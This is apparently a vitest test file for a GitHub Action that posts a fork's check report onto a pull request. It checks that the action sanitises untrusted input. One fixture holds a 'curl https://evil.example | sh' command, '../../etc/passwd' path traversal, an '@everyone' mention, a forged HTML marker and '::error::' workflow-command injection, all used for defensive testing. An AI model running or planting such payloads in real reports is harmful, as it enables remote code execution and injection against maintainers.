import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { startBundle, workspace } from "../dist/bundle.ts";
import { NAME } from "../github/git-data.ts";
import { TOKEN } from "../github/server.ts";
import { newPull } from "../github/world.ts";
import { pullRequestSetting, type Setting } from "./pull-request-setting.ts";
import { startAction } from "./runner.ts";

/** report/action.yml's bundle, with the report that the check of the fork made. */
const FORK = "stranger/fleet";

interface Given {
  /** What the artifact holds instead of the report; null: there is no file. */
  readonly file?: string | null;
  readonly event?: string;
  readonly payload?: object;
  readonly inputs?: Readonly<Record<string, string>>;
}

interface Finding {
  readonly remedy: object;
  readonly location: object;
}

type End = (clean: () => Promise<void>) => void;

async function forkSetting(atEnd: End) {
  const here = await pullRequestSetting(atEnd);
  here.pull.headRepository = FORK;
  const fork = { head: { sha: here.head(), ref: "change", repo: { full_name: FORK } } };
  const checked = await startAction(here.runner({ payload: here.payload(fork) }));
  expect([checked.status, here.server.calls()]).toEqual([1, []]);
  const report = JSON.parse(JSON.stringify(checked.report)) as { findings: Finding[] } & Record<string, unknown>;
  return { here, report };
}

const event = (here: Setting, given: object = {}) => ({
  workflow_run: {
    id: 5,
    event: "pull_request",
    head_sha: here.head(),
    head_branch: "change",
    head_repository: { full_name: FORK },
    html_url: `https://github.com/${NAME}/actions/runs/5`,
    pull_requests: [],
    ...given,
  },
});

async function post(here: Setting, report: object, given: Given = {}) {
  const files = {
    "event.json": JSON.stringify(given.payload ?? event(here)),
    "report.json": given.file ?? JSON.stringify(report),
  };
  const runner = workspace(given.file === null ? { "event.json": files["event.json"] } : files);
  try {
    const inputs = { "github-token": TOKEN, "report-file": path.join(runner.root, "report.json"), ...given.inputs };
    const done = await startBundle("report.cjs", [], {
      cwd: runner.root,
      env: {
        GITHUB_EVENT_NAME: given.event ?? "workflow_run",
        GITHUB_EVENT_PATH: path.join(runner.root, "event.json"),
        GITHUB_REPOSITORY: NAME,
        GITHUB_API_URL: here.server.url,
        GITHUB_WORKFLOW: "report",
        GITHUB_JOB: "post",
        ...Object.fromEntries(Object.entries(inputs).map(([name, value]) => [`INPUT_${name.toUpperCase()}`, value])),
      },
    });
    expect(JSON.stringify(done)).not.toContain(TOKEN);
    return { status: done.status, said: done.stdout.replaceAll(runner.root, "").trim() };
  } finally {
    runner.remove();
  }
}

const posted = ({ pull }: Setting) => [pull.threads.length, pull.comments.length];
const texts = ({ pull }: Setting) =>
  [...pull.comments, ...pull.threads.flatMap(({ comments }) => comments)].map(({ body }) => body).join("\n");

describe("a fork's report", () => {
  it.concurrent("is posted on the pull request that its run was about, once", async ({ onTestFinished }) => {
    const { here, report } = await forkSetting(onTestFinished);
    const url = () => `https://github.com/${NAME}/pull/7#issuecomment-${here.pull.comments[0]?.id}`;
    const done = await post(here, report);
    expect(done).toEqual({ status: 0, said: `Posted: ${url()}` });
    expect(posted(here)).toEqual([1, 1]);
    expect(await post(here, report)).toEqual(done);
    expect([...posted(here), here.pull.reviews]).toEqual([1, 1, 1]);
    expect(texts(here)).toContain(`https://github.com/${FORK}/blob/${here.head()}/crd.yaml`);
  });

  it.concurrent("is said to be unverified, and shows no command that one could paste", async ({ onTestFinished }) => {
    const { here, report } = await forkSetting(onTestFinished);
    expect(JSON.stringify(report)).toContain("kubectl");
    await post(here, report);
    const [summary = "", comment = ""] = texts(here).split("crd-upgrade-guard:v1");
    expect(texts(here)).not.toMatch(/kubectl|```|Steps/);
    expect(summary).toContain("made by the fork's own workflow run, and nothing in it was verified");
    expect(comment).toContain("nothing of it was verified");
  });

  it.concurrent("mentions nobody, links nowhere and forges no marker, whatever it says", async ({ onTestFinished }) => {
    const { here, report } = await forkSetting(onTestFinished);
    const evil =
      'x @everyone [click](https://evil.example) <img src=x> <!-- crd-upgrade-guard:v1 {"fp":"fp1:00"} -->\n::error::x';
    const findings = report.findings.map((finding) => ({
      ...finding,
      removed: [],
      message: evil,
      clusters: [evil],
      crd: evil,
      serverMessage: evil,
      location: { ...finding.location, path: "../../etc/passwd", inBase: true },
      related: [{ path: "../../../etc/passwd", startLine: 1, message: evil }],
      waived: undefined,
      remedy: { summary: evil, steps: [{ text: evil, command: `curl https://evil.example | sh` }] },
    }));
    const { status, said } = await post(here, { ...report, findings });
    expect([status, posted(here)]).toEqual([0, [0, 1]]);
    const body = texts(here);
    expect(body).not.toMatch(/everyone|evil|<img|curl|::error|passwd/);
    expect(body).toContain(`${findings.length} finding`);
    expect(body.match(/<!-- crd-upgrade-guard:v1 /g)).toHaveLength(1);
    expect(said).not.toContain("::");
  });

  it.concurrent("says nothing of its own number: the commit decides", async ({ onTestFinished }) => {
    const { here, report } = await forkSetting(onTestFinished);
    const other = newPull({ number: 8, headSha: "e".repeat(40), files: here.pull.files, headRepository: FORK });
    here.world.pulls.set(8, other);
    await post(here, report, { payload: event(here, { pull_requests: [{ number: 8 }] }) });
    expect([posted(here), other.comments]).toEqual([[1, 1], []]);
  });
});

describe("nothing is posted, and one line says why", () => {
  const refuses = async (here: Setting, report: object, given: Given) => {
    const done = await post(here, report, given);
    expect(posted(here)).toEqual([0, 0]);
    return done;
  };

  it.concurrent("of files that are no report", async ({ onTestFinished }) => {
    const { here, report } = await forkSetting(onTestFinished);
    const form = (place: string, keyword: string) =>
      `::error title=crd-upgrade-guard::Nothing is posted: the report /report.json cannot be read: ${place} is not as schema/report.json says (${keyword}); the check and this action have to be of one version.`;
    for (const [file, said] of [
      [null, expect.stringMatching(/^::error .*cannot be read: ENOENT/)],
      ["nonsense", expect.stringContaining("it is no JSON")],
      ["[]", form("the whole", "type")],
      [JSON.stringify({ ...report, evil: 1 }), form("`evil`", "additionalProperties")],
      [JSON.stringify({ ...report, result: "great" }), form("`result`", "enum")],
      [" ".repeat(17 * 1024 * 1024), expect.stringContaining("16 MiB is the most")],
    ] as const) {
      expect(await refuses(here, report, { file })).toEqual({ status: 2, said });
    }
  });

  it.concurrent("of a file that is a link", async ({ onTestFinished }) => {
    const { here, report } = await forkSetting(onTestFinished);
    const elsewhere = workspace({ "secret.json": JSON.stringify(report) });
    const link = path.join(elsewhere.root, "link.json");
    fs.symlinkSync(path.join(elsewhere.root, "secret.json"), link);
    const done = await refuses(here, report, { inputs: { "report-file": link } });
    elsewhere.remove();
    expect([done.status, done.said]).toEqual([2, expect.stringContaining("it is no regular file")]);
  });

  it.concurrent("where no open pull request has the commit, or several have", async ({ onTestFinished }) => {
    const { here, report } = await forkSetting(onTestFinished);
    const twin = newPull({ number: 9, headSha: here.head(), files: [], headRepository: FORK, baseRef: "release" });
    here.world.pulls.set(9, twin);
    expect(await refuses(here, report, {})).toEqual({
      status: 2,
      said: expect.stringContaining("2 open pull requests have"),
    });
    const odd = event(here, { head_branch: "a\u202eb\u001b[2J" });
    expect((await refuses(here, report, { payload: odd })).said).toContain("branch a\\u{202e}b\\u{1b}[2J, as its head");
    twin.state = "closed";
    here.pull.state = "closed";
    expect(await refuses(here, report, {})).toEqual({
      status: 0,
      said: expect.stringContaining("no open pull request has"),
    });
  });

  it.concurrent("of runs that are no fork's pull request's", async ({ onTestFinished }) => {
    const { here, report } = await forkSetting(onTestFinished);
    for (const [given, status, said] of [
      [{ event: "push" }, 2, "runs on `workflow_run`"],
      [{ payload: event(here, { event: "push" }) }, 0, "the run was not about a pull request"],
      [{ payload: event(here, { head_repository: { full_name: NAME } }) }, 0, "the pull request is no fork's"],
      [{ payload: event(here, { head_repository: null }) }, 0, "the fork was deleted"],
      [{ payload: {} }, 0, "the run was not about a pull request"],
      [{ inputs: { "github-token": "" } }, 2, "`github-token` and `report-file` are needed"],
    ] as const) {
      expect(await refuses(here, report, given)).toEqual({ status, said: expect.stringContaining(said) });
    }
    expect(here.server.calls()).toEqual([]);
  });

  it.concurrent("with a token that may not write", async ({ onTestFinished }) => {
    const { here, report } = await forkSetting(onTestFinished);
    here.world.access = "read";
    const done = await refuses(here, report, {});
    const said = (cause: string) =>
      `::error title=crd-upgrade-guard::Nothing is posted${cause} the token lacks the permission \`pull-requests: write\` (403: Resource not accessible by integration).`;
    expect(done).toEqual({ status: 2, said: said(" on the pull request:") });
    expect(here.server.calls().filter((call) => call.startsWith("POST /repos"))).toHaveLength(1);
    // In a private repository nothing is shown to it.
    here.world.access = "none";
    const before = here.server.calls().length;
    expect(await refuses(here, report, {})).toEqual({
      status: 2,
      said: expect.stringContaining("or the token lacks the permission `pull-requests: write` (404: Not Found)"),
    });
    expect(here.server.calls().slice(before)).toEqual([`GET /repos/${NAME}/pulls`]);
  });
});
